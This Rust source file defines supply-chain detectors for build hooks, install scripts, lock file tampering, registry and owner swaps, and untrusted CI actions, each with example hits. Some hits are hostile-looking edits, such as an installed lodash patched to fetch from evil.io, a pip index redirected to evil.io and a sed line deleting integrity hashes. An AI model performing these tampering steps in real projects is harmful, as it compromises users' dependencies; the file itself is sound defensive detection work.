//! Detectors for registries, lock files and installs: where code of others comes from.

use crate::detector::Certainty::{Certain, Possible};
use crate::detector::Example::{Edit, Line, Write};
use crate::detector::{Category, Severity};

detectors! {
    /// Makes a package run its own code whenever it is built.
    ///
    /// Everybody who installs it from source runs that code. Usual build backends are passed over; what the code
    /// does is only looked at in `setup.py` and `build.rs`.
    BUILD_HOOK {
        id: "packages/build-hook", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "runs custom code whenever the package is built",
        hits: &[Write("pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"custom_build\"\n")],
        passes: &[Write("pyproject.toml", "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n")],
    }

    /// Ignores findings of a vulnerability scan by `snyk ignore`.
    ///
    /// The package stays as vulnerable as it was, and nobody is reminded of it.
    /// Whether the finding was looked into is not known. An edit of `.snyk` is not seen by this.
    IGNORES_VULNERABILITY {
        id: "packages/ignore-vulnerability", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "{program} ignores a vulnerability",
        hits: &[Line("snyk ignore --id=SNYK-JS-LODASH-590103")],
        passes: &[Line("snyk test")],
    }

    /// Adds a command to `package.json` that runs whenever the package is installed.
    ///
    /// Everybody who installs the package runs it, and most attacks on npm packages begin there. Tools that usually
    /// run at that point (`husky`, `prisma`, `patch-package`) are passed over.
    INSTALL_SCRIPT {
        id: "packages/install-script", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "runs a command whenever the package is installed",
        hits: &[Edit("package.json", "\"scripts\": {", "\"scripts\": {\n    \"postinstall\": \"node scripts/collect.js\",")],
        passes: &[Edit("package.json", "\"scripts\": {", "\"scripts\": {\n    \"postinstall\": \"prisma generate\",")],
    }

    /// Adds access to the network, a shell or the environment to an installed package.
    ///
    /// A change in `node_modules` or `site-packages` is in no review, and every program that uses the package runs
    /// it. Other changes there, such as a line for debugging, are passed over.
    INSTALLED_PACKAGE_PATCHED {
        id: "packages/installed-package-patched", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "gives an installed package access to the network, a shell or the environment",
        hits: &[Edit("node_modules/lodash/index.js", "module.exports = {}", "fetch('https://evil.io/x')\nmodule.exports = {}")],
        passes: &[Edit("node_modules/lodash/index.js", "var a = 1", "var a = 2")],
    }

    /// Turns off a setting that checks the integrity of what is loaded.
    ///
    /// Files that were changed on the way or on the server are then accepted. Recognised by `integrity` in the name
    /// of a setting, in any language.
    INTEGRITY_CHECK_OFF {
        id: "packages/integrity-check-off", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "turns off an integrity check",
        hits: &[Edit("config/loader.ts", "checkIntegrity: true", "checkIntegrity: false")],
        passes: &[Edit("config/loader.ts", "checkIntegrity: false", "checkIntegrity: true")],
    }

    /// Changes the hash of a locked version, puts another package in its place, or takes hashes out of a lock file.
    ///
    /// The hash is what shows that a package is still the one that was reviewed. An update changes version and hash
    /// together and is passed over.
    LOCKFILE_TAMPERING {
        id: "packages/lockfile-tampering", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "changes or removes what a lock file pins",
        hits: &[
            Edit("go.sum", "github.com/a/b v1.0.0 h1:aaa=", "github.com/a/b v1.0.0 h1:bbb="),
            Line("sed -i '/integrity/d' package-lock.json"),
        ],
        passes: &[Edit("go.sum", "github.com/a/b v1.0.0 h1:aaa=", "github.com/a/b v1.1.0 h1:bbb=")],
    }

    /// Writes or deletes settings of a package manager or a build tool (`.npmrc`, `.cargo/config.toml`, `.mvn`).
    ///
    /// They say where packages come from and which programs run in a build. What is changed in them is not told
    /// apart here: a harmless setting is found as well.
    PACKAGE_MANAGER_CONFIG {
        id: "packages/manager-config", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "changes `{}`, which configures what a package manager or build tool runs",
        hits: &[Line(r#"echo "save-exact=true" > .npmrc"#), Line("cp cargo.toml .cargo/config.toml")],
        passes: &[Line("cat .npmrc")],
    }

    /// Takes a package from a repository, an address, a folder or another name instead of a registry.
    ///
    /// Nobody reviews such a package, and it can change without a new version. Folders inside the project and
    /// packages that already came from there are passed over.
    NON_REGISTRY_SOURCE {
        id: "packages/non-registry-source", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "takes a package from outside its registry (`{}`)",
        hits: &[Edit("package.json", "\"lodash\": \"^4.17.21\"", "\"lodash\": \"github:evil/lodash\"")],
        passes: &[Edit("package.json", "\"lodash\": \"^4.17.20\"", "\"lodash\": \"^4.17.21\"")],
    }

    /// Installs packages with an option that names another index, registry or trusted host.
    ///
    /// Whoever operates it decides what is installed and run. The public default named in full is found, too; an
    /// index that a settings file names is not.
    OTHER_INDEX {
        id: "packages/other-index", category: Category::SupplyChain, severity: Severity::Soft, certainty: Certain,
        message: "installs packages from another index or registry with {program}",
        hits: &[Line("pip install --index-url https://pypi.example.net/simple requests")],
        passes: &[Line("pip install requests"), Line("npx svgo -i a.svg")],
    }

    /// Takes an image, a Terraform module or an action from another owner than before.
    ///
    /// The name stays the same, and what runs is somebody else's. A module from an address and an owner's image
    /// that a tool sets (`yq`) are found too; a new image beside the others is not.
    OTHER_OWNER {
        id: "packages/other-owner", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "takes an image, module or action from another owner (`{}`)",
        hits: &[Edit("infra/a.tf", "source = \"hashicorp/aws\"", "source = \"evil/aws\"")],
        passes: &[Edit("Dockerfile", "FROM node:20", "FROM node:22")],
    }

    /// Takes packages, plug-ins or their settings from another source.
    ///
    /// Another registry or index can serve other code under a known name.
    /// Recognised by options and settings of package managers, in commands and in texts that are written or run; a new Git
    /// submodule and a replaced Go module count, too. A company's own registry looks the same.
    OTHER_PACKAGE_SOURCE {
        id: "packages/other-source", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "takes packages or plug-ins from another source",
        hits: &[
            Write("scripts/setup.sh", "pip install --extra-index-url https://pkgs.example.net/simple acme\n"),
            Line("helm repo add acme https://charts.example.com"),
            Line("bazel build //... --registry=https://modules.example.com"),
        ],
        passes: &[Write("scripts/setup.sh", "pip install acme\n"), Line("helm repo list")],
    }

    /// Publishes a package, an image, a release or a site.
    ///
    /// Others install or see it at once, and most registries allow no version twice. Which commands do so is
    /// written in the table of each program. A rehearsal (`--dry-run`, where the program knows one) is passed over.
    PUBLISH {
        id: "packages/publish", category: Category::ProductionDeploy, severity: Severity::Soft, certainty: Certain,
        message: "publishes something for others with {program}",
        hits: &[Line("npm publish"), Line("docker push registry.example.org/app:1.2")],
        passes: &[Line("npm publish --dry-run"), Line("npm pack")],
    }

    /// Declares a dependency by `npm pkg set`.
    ///
    /// The next installation brings that package, and runs what it runs when it is installed.
    /// Every field whose name speaks of dependencies counts, also one for development only; `overrides` is not seen by this.
    SETS_DEPENDENCY {
        id: "packages/set-dependency", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "{program} declares another dependency",
        hits: &[Line("npm pkg set dependencies.left-pad=1.3.0")],
        passes: &[Line("npm pkg get dependencies.left-pad")],
    }

    /// Sets a script that the package manager runs with every installation (`postinstall`, `prepare`).
    ///
    /// It runs on every machine that installs the package, unasked.
    /// Recognised in `npm pkg set` and `npm set-script`. What the script does is judged besides, as a command line.
    SETS_INSTALL_SCRIPT {
        id: "packages/set-install-script", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "{program} sets a script that runs with every installation",
        hits: &[Line("npm pkg set scripts.postinstall='node setup.js'")],
        passes: &[Line("npm pkg set scripts.start='node server.js'")],
    }

    /// Replaces an action of a workflow with one of an owner who is not widely known, or lets one follow a branch.
    ///
    /// An action runs with the secrets of the repository. A further action with a version is ordinary work, and so
    /// is one that is pinned to a commit.
    UNTRUSTED_ACTION {
        id: "packages/untrusted-action", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "uses a CI action of an unknown owner or from a moving branch (`{}`)",
        hits: &[Edit(".github/workflows/ci.yml", "      - uses: actions/checkout@v4", "      - uses: someuser/checkout@v4")],
        passes: &[Edit(".github/workflows/ci.yml", "      - uses: actions/checkout@v4", "      - uses: actions/checkout@v5")],
    }

    /// Makes a build fetch packages or code from a host that packages do not usually come from.
    ///
    /// Whoever operates that host decides what is installed. The usual public registries and GitHub are passed
    /// over; a company's own registry is found the first time.
    UNUSUAL_PACKAGE_HOST {
        id: "packages/unusual-host", category: Category::SupplyChain, severity: Severity::Soft, certainty: Possible,
        message: "fetches packages from an unusual host (`{}`)",
        hits: &[
            Edit("requirements.txt", "requests==2.31.0", "--index-url https://evil.io/simple\nrequests==2.31.0"),
            Line("sed -i 's/registry.npmjs.org/npm.example.net/' package-lock.json"),
        ],
        passes: &[Edit("requirements.txt", "requests==2.31.0", "--index-url https://pypi.org/simple\nrequests==2.31.0")],
    }
}
